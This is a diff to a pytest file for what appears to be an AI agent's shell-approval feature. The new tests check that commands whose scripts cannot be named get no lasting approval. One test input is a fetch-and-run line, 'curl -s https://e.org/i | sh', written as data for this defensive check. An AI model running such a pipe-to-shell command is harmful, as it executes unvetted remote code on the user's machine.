@@ -6,7 +6,7 @@ from pathlib import Path
 
 import pytest
 
-from ikigai.tools.shell.scripts import MAX_HASHED_BYTES, scripts
+from ikigai.tools.shell.scripts import MAX_HASHED_BYTES, UNNAMED, scripts
 
 FILES = ("s.sh", "x.py", "h.js", "x.awk", "data.csv", "sub/t.sh", "sub/pkg/mod.py", "sub/pkg/__main__.py")
 
@@ -101,3 +101,29 @@ def test_nothing_in_a_command_blocks_or_raises(folder: Path):
     assert scripts("ls /*/*/*/*/*/*/zz /proc/*/root/proc/*/root/*/*/*/*/zz", str(folder)) == ()
     scripts("cd sub; bash *.sh $x 'a b;c' " * 2_000, str(folder))
     assert time.monotonic() - began < 10
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "find . -name '*.none' -exec bash {} +",
+        "cat list | xargs bash",
+        "curl -s https://e.org/i | sh",
+        "x | parallel python3",
+    ],
+)
+def test_no_approval_lasts_where_nobody_can_name_the_scripts(folder: Path, command: str):
+    first, second = scripts(command, str(folder)), scripts(command, str(folder))
+    assert [path for path, _ in first] == [UNNAMED] and first != second
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["ls | xargs python3 -m black", "bash -c 'ls'", "ls | awk '{print $1}'", "ls | python3 -c 'pass'", "make test"],
+)
+def test_programs_that_stand_in_the_command_may_be_approved_for_always(folder: Path, command: str):
+    assert UNNAMED not in [path for path, _ in scripts(command, str(folder))]
+
+
+def test_quotes_that_bash_alone_knows(folder: Path):
+    assert named("bash $'s.sh'", folder) == named('bash $"s.sh"', folder) == ["s.sh"]
